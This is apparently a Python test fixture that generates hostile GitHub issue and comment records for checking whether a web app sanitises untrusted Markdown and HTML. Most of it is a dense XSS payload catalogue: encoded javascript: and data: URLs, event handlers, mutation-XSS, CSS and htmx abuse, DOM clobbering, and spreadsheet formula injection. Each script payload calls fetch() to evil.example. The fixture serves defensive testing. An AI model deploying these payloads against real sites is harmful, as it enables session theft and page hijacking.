"""A corpus of hostile issue reports, as GitHub's REST API gives them: what a stranger can type into an issue.

Every payload that would run script sets `top.__pwned` (and most also fetch from http://evil.example or open a
dialog); every payload that would load something loads it from http://evil.example. A page that shows the corpus
safely leaves `window.__pwned` undefined, opens no dialog and sends no request to another host.

The corpus: `issues()` and `comments()` (REST objects, comments joined on issue_url), written by `write_dump()` as
two JSON files for `import_issues`; `markdown_chunks()` for the texts researchers write (discussion comments,
decision notes, guidelines, codebook definitions). Two issues are bad records on purpose (a javascript: html_url,
a hostile state): the importer reports them, with their values, on the import's page.
"""

import base64
import json
from pathlib import Path

REPOSITORY = "hostile/widgets"
EVIL = "http://evil.example"
RUN = f"top.__pwned=1;fetch('{EVIL}/fetch')"  # what every script payload runs
SEARCH_WORD = "canary"  # in every body: a search that matches all of them renders their snippets
BIG_BODY_BYTES = 200_000
CODE_LINES = 10_000
NESTING = (90, 1_000)  # nested lists and quotes: rendered (the body), then too deep to render (a comment)

# --- URLs that would run script, in every spelling a browser or a Markdown parser may decode ---

SCRIPT_SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "JAVASCRIPT:",
    " javascript:",
    "\tjavascript:",
    "java\tscript:",
    "java\nscript:",
    "java\rscript:",
    "\x01javascript:",
    "jav&#x09;ascript:",
    "jav&#9;ascript:",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "&#X6a;avascript:",
    "&#0000106;avascript:",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A",
    "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58",
    "javascript&colon;",
    "javascript&#58;",
    "javascript&#x3a;",
    "%6A%61%76%61%73%63%72%69%70%74:",
    "vbscript:",
    "VbScRiPt:",
    "&#118;bscript:",
    "livescript:",
]
SCRIPT_HTML = f"<script>{RUN}</script>"
SVG = "http://www.w3.org/2000/svg"
DATA_URLS = [
    "data:text/html;base64," + base64.b64encode(SCRIPT_HTML.encode()).decode(),
    f"DaTa:text/html,{SCRIPT_HTML}",
    "&#100;ata:text/html;base64," + base64.b64encode(SCRIPT_HTML.encode()).decode(),
    "data:image/svg+xml;base64," + base64.b64encode(f'<svg xmlns="{SVG}" onload="{RUN}"/>'.encode()).decode(),
    f"data:text/javascript,{RUN}",
]
HOSTILE_URLS = [scheme + RUN for scheme in SCRIPT_SCHEMES] + DATA_URLS

# Where a URL can hide, in raw HTML and in Markdown. {url} is replaced as it is, entities and all.
URL_PLACES = [
    '<a href="{url}">link</a>',
    "<a href='{url}'>link</a>",
    '<img src="{url}">',
    '<img srcset="{url} 1x">',
    '<iframe src="{url}"></iframe>',
    '<form action="{url}"><button>send</button></form>',
    '<form><button formaction="{url}">send</button><input type="submit" formaction="{url}"></form>',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<base href="{url}">',
    '<meta http-equiv="refresh" content="0;url={url}">',
    '<link rel="stylesheet" href="{url}">',
    '<link rel="prefetch" href="{url}">',
    '<svg><a xlink:href="{url}"><text y="20">svg link</text></a></svg>',
    '<math><maction actiontype="statusline" xlink:href="{url}">math link</maction></math>',
    '<video poster="{url}" src="{url}"></video>',
    '<input type="image" src="{url}">',
    '<table background="{url}"><tr><td>cell</td></tr></table>',
    "[markdown link]({url})",
    "![markdown image]({url})",
    "[angle link](<{url}>)",
    "<{url}>",
    "[reference link][ref-{n}]\n\n[ref-{n}]: {url}",
    '[titled reference][t-{n}]\n\n[t-{n}]: <{url}> "title"',
    "[![image in a link]({url})]({url})",
]

# --- Raw HTML: tags, handlers, mutation XSS, clobbering, styles ---

RAW_HTML = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f'<script src="{EVIL}/script.js"></script>',
    f"<script/xss>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror={RUN.replace(';', ',')}>",
    f'<IMG SRC=x OnErRoR="{RUN}">',
    '<img src="x" onerror="alert(1)">',
    f'<body onload="{RUN}">',
    f'<svg onload="{RUN}"><circle r="5"/></svg>',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>',
    f'<svg><set attributeName="onmouseover" to="{RUN}"/></svg>',
    f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/><text y="20">animated</text></a></svg>',
    f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<template><script>{RUN}</script></template>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<textarea><img src=x onerror={RUN}></textarea>",
    f"<title><img src=x onerror={RUN}></title>",
    f"<noembed><img src=x onerror={RUN}></noembed>",
    f'<iframe srcdoc="<script>{RUN.replace(chr(39), "&#39;")}</script>"></iframe>',
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f'<?xml-stylesheet href="{EVIL}/x.xsl"?>',
    f'<div onmouseover="{RUN}">hover me</div>',
    f'<details open ontoggle="{RUN}"><summary>toggle</summary>opened</details>',
    f'<input autofocus onfocus="{RUN}">',
    f'<select autofocus onfocus="{RUN}"></select>',
    f'<marquee onstart="{RUN}">marquee</marquee>',
    f'<video><source onerror="{RUN}"></video>',
    f'<a href="#" onclick="{RUN}">click me</a>',
    f'<p style="animation-name:x" onanimationstart="{RUN}">animated</p>',
    f'<object data="{EVIL}/object.swf" type="application/x-shockwave-flash"></object>',
    f'<embed src="{EVIL}/embed.swf">',
    f'<applet code="x" codebase="{EVIL}/"></applet>',
    f'<isindex action="javascript:{RUN}" type="image">',
    f'<frameset onload="{RUN}"></frameset>',
    f'<style>@import url("{EVIL}/import.css"); body {{ display: none; background: url({EVIL}/bg.png) }} '
    f"* {{ width: expression({RUN}) }}</style>",
    f'<div style="background-image:url({EVIL}/style.png);width:expression({RUN});'
    f'behavior:url({EVIL}/x.htc);-moz-binding:url({EVIL}/x.xml#x)">inline style</div>',
    f'<span style="background:url(&#x6A;avascript:{RUN})">entity style</span>',
    f"<svg><style>@import url({EVIL}/svg.css)</style></svg>",
    f'<picture><source srcset="{EVIL}/picture.png"><img src="{EVIL}/fallback.png"></picture>',
    # htmx attributes would make our own script send requests or swap content; data-* drive annotate.js.
    f'<div hx-get="{EVIL}/htmx" hx-trigger="load" hx-swap="outerHTML">htmx load</div>',
    f'<div hx-on:htmx:load="{RUN}" hx-on::load="{RUN}">htmx on</div>',
    f'<a data-hx-post="{EVIL}/htmx-post" data-hx-trigger="load">data-hx</a>',
    f'<div hx-vals=\'js:{{a: {RUN}}}\' hx-post="/" hx-trigger="load">hx-vals</div>',
    f'<a data-key="j" href="{EVIL}/hijack-j">j hijack</a> <a data-reload href="{EVIL}/reload">reload</a>',
    # DOM clobbering: names and ids that our scripts, htmx or the canary check would read.
    '<a id="__pwned" href="#">clobber the canary</a> <img name="__pwned" src="x">',
    '<form id="shortcuts"><input name="showModal"></form> <div id="codebook">fake codebook</div>',
    '<img name="htmx" src="x"> <form name="getElementById"></form> <a id="csrfmiddlewaretoken">x</a>',
    '<input type="hidden" name="csrfmiddlewaretoken" value="stolen"> <div id="issue-body">fake body</div>',
    f'<a href="{EVIL}/tabnabbing" target="_blank">new tab</a>',
    '<a href="/admin/" id="x" class="button primary" style="position:fixed;inset:0">cover the page</a>',
    '<div class="workspace codebook-pane save-state">page classes</div>',
]

# Markdown that GitHub users write, with the HTML inside code where it must stay text.
MARKDOWN_TRICKS = [
    f"`<script>{RUN}</script>` in a code span, and ``<img src=x onerror={RUN}>`` too",
    f"```html\n</code></pre><script>{RUN}</script>\n```",
    f"    </code></pre><img src=x onerror={RUN}>  (indented code)",
    f"<details><summary>Logs</summary>\n\n<img src=x onerror={RUN}>\n\n[hidden](javascript:{RUN})\n</details>",
    f"- [x] done <img src=x onerror={RUN}>\n- [ ] <input type=checkbox checked onclick={RUN}>",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | [cell](javascript:{RUN}) |",
    f"> quoted <script>{RUN}</script>\n> [quote link](javascript:{RUN})",
    f"@evil-user #1 {REPOSITORY}#2 https://github.com/{REPOSITORY}/issues/3 www.evil.example {EVIL}/bare",
    f":smile: :octocat: ~~strike~~ **bold** _em_ [^note]\n\n[^note]: <img src=x onerror={RUN}>",
    "{{ request.user.password }} {% debug %} ${7*7} #{7*7} <%= 7*7 %>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt;img src=x onerror={RUN}&amp;gt;",
]

# Bidirectional overrides, zero-width and other invisible characters: harmless, but must not reorder the page.
INVISIBLE = "\u202e\u2066\u2067\u2068\u2069\u202a\u202b\u202c\u202d\u200b\u200c\u200d\u2060\ufeff\u00ad"
TRICKY_TEXT = f"gnp.exe\u202e{INVISIBLE}cod.txt \u200bjava\u200bscript:{RUN} \x02marked\x03 \x02 \x03\x03"


def payloads() -> list[str]:
    """Every payload once: URLs in every place, raw HTML, Markdown tricks."""
    found = [
        place.format(url=url, n=number)
        for number, (url, place) in enumerate((url, place) for url in HOSTILE_URLS for place in URL_PLACES)
    ]
    return found + RAW_HTML + MARKDOWN_TRICKS + [TRICKY_TEXT]


def markdown_chunks(limit: int) -> list[str]:
    """All the payloads, as Markdown texts of at most `limit` characters each."""
    chunks, current = [], f"**{SEARCH_WORD}**"
    for payload in payloads():
        if len(current) + len(payload) + 2 > limit:
            chunks.append(current)
            current = f"**{SEARCH_WORD}**"
        current += "\n\n" + payload
    return [*chunks, current]


# --- Titles, bodies, issues and comments ---

TITLES = [
    f"<script>{RUN}</script> Layer returns wrong shape",
    f'"><img src=x onerror="{RUN}"> {{{{ 7*7 }}}} {{% now "Y" %}}',
    f"\u202eevil.exe\u202c Admin {INVISIBLE} zero-width \u200b\u200b title",
    '=HYPERLINK("http://evil.example","click") +cmd|\' /C calc\'!A0 @SUM(1) -2+3',
    f"javascript:{RUN} \x02marked\x03 </title><script>{RUN}</script>",
]


def big_body() -> str:
    """About BIG_BODY_BYTES of a log pasted without a fence, with payloads all through it."""
    every = [payload.replace("\n", " ") for payload in payloads()]
    lines, size = [], 0
    while size < BIG_BODY_BYTES:
        lines.append(f"{SEARCH_WORD} step {len(lines)}: loss=nan accuracy=0.0 {every[len(lines) % len(every)]}")
        size += len(lines[-1].encode()) + 1
    return "\n".join(lines)


def code_block_body() -> str:
    code = "\n".join(
        f"x_{line} = tf.constant([{line}])"
        + (f"  # </code></pre><img src=x onerror={RUN}>" if line % 100 == 0 else "")
        for line in range(CODE_LINES)
    )
    return f"The {SEARCH_WORD} output:\n\n```python\n{code}\n```\n\nAfter the block: [link](javascript:{RUN})"


def nested(depth: int) -> str:
    """Lists, quotes, emphasis and brackets `depth` deep, with payloads at the bottom."""
    indented = "\n".join("    " * level + f"- level {level}" for level in range(min(depth, 100)))
    return "\n\n".join(
        [
            f"Deeply nested ({SEARCH_WORD}, {depth}):",
            indented + "\n" + "    " * min(depth, 100) + f"- <img src=x onerror={RUN}> [deep](javascript:{RUN})",
            "- " * depth + f"<img src=x onerror={RUN}>",
            "> " * depth + f"quoted <script>{RUN}</script>",
            "*" * depth + "emphasis" + "_" * depth + "[" * depth + f"<img src=x onerror={RUN}>",
        ]
    )


def rest_issue(number: int, title: str, body: str, **fields) -> dict:
    api = f"https://api.github.com/repos/{REPOSITORY}"
    return {
        "url": f"{api}/issues/{number}",
        "repository_url": api,
        "html_url": f"https://github.com/{REPOSITORY}/issues/{number}",
        "id": 7_000_000 + number,
        "number": number,
        "title": title,
        "user": {"login": f"<img src=x onerror={RUN}>", "id": 1},
        "labels": [{"name": f"<script>{RUN}</script>"}, {"name": f"javascript:{RUN}"}, {"name": "type:bug"}],
        "state": "open",
        "comments": 0,
        "created_at": "2024-03-01T10:00:00Z",
        "updated_at": "2024-03-02T10:00:00Z",
        "closed_at": None,
        "body": body,
        **fields,
    }


def rest_comment(comment_id: int, number: int, body: str) -> dict:
    return {
        "url": f"https://api.github.com/repos/{REPOSITORY}/issues/comments/{comment_id}",
        "html_url": f"https://github.com/{REPOSITORY}/issues/{number}#issuecomment-{comment_id}",
        "issue_url": f"https://api.github.com/repos/{REPOSITORY}/issues/{number}",
        "id": comment_id,
        "user": {"login": f'"><svg onload="{RUN}">'},
        "created_at": f"2024-03-03T10:{comment_id % 60:02d}:00Z",
        "updated_at": "2024-03-03T10:00:00Z",
        "body": body,
    }


# The issues of the corpus, by number.
EVERYTHING, BIG, CODE, NESTED, TRICKY = 1, 2, 3, 4, 5
BAD_URL, BAD_STATE = 6, 7


def issues() -> list[dict]:
    everything = "\n\n".join([f"**rendered as Markdown** ({SEARCH_WORD})", *payloads()])
    return [
        rest_issue(EVERYTHING, TITLES[0], everything),
        rest_issue(BIG, TITLES[1], big_body()),
        rest_issue(CODE, TITLES[2], code_block_body()),
        rest_issue(NESTED, TITLES[3], nested(NESTING[0])),
        rest_issue(TRICKY, TITLES[4], f"{SEARCH_WORD} {TRICKY_TEXT}\n\n" + "\n\n".join(RAW_HTML)),
        # Bad records: reported on the import's page with the values they hold.
        rest_issue(BAD_URL, "javascript: html_url", SEARCH_WORD, html_url=f"javascript:{RUN}"),
        rest_issue(BAD_STATE, "hostile state", SEARCH_WORD, state=f"<img src=x onerror={RUN}>"),
    ]


def comments() -> list[dict]:
    found = [rest_comment(8_000_000 + index, EVERYTHING, chunk) for index, chunk in enumerate(markdown_chunks(60_000))]
    for offset, number in enumerate((BIG, CODE, NESTED, TRICKY)):
        found.append(rest_comment(8_100_000 + offset, number, "\n\n".join([SEARCH_WORD, *RAW_HTML])))
    found.append(rest_comment(8_200_000, NESTED, nested(NESTING[1])))
    return found


def write_dump(directory: Path) -> list[Path]:
    """The corpus as two files for `import_issues`; the issues' file name is hostile too (the import page shows it)."""
    issues_file = directory / f"issues-<img src=x onerror={RUN.replace('/', '')}>.json"
    comments_file = directory / "comments.json"
    issues_file.write_text(json.dumps(issues(), indent=1), encoding="utf-8")
    comments_file.write_text(json.dumps(comments(), indent=1), encoding="utf-8")
    return [issues_file, comments_file]
